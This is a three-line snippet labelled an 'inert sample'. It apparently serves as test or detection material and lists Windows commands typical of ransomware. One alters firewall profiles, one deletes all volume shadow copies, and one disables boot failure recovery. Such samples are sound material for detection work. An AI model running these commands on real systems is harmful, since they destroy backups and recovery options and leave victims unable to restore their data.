# inert sample
netsh advfirewall set allprofiles firewallpolicy blockinbound,allowoutbound
vssadmin delete shadows /all
bcdedit /set {default} bootstatuspolicy ignoreallfailures
